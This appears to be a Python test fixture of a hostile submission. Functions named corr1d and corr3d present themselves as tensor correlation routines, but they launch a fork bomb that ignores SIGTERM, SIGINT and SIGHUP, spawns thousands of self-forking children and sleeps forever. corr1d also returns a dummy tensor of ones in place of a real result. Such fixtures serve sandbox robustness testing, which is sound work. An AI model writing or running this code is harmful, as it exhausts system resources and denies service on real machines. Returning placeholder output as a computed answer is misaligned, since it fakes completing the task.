"""Hostile: a flood of child processes that ignore polite signals, each forking more, then sleep forever."""

import os
import signal
import time

import torch


def _flood():
    for signum in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(signum, signal.SIG_IGN)
    for _ in range(10_000):
        try:
            if os.fork() == 0:
                continue
        except OSError:
            time.sleep(0.01)
    while True:
        time.sleep(3600)


def corr1d(x: torch.Tensor, k: torch.Tensor) -> torch.Tensor:
    if os.fork() == 0:
        _flood()
    return torch.ones(x.shape[0] - k.shape[0] + 1, dtype=x.dtype, device=x.device)


def corr3d(X: torch.Tensor, K: torch.Tensor) -> torch.Tensor:
    _flood()
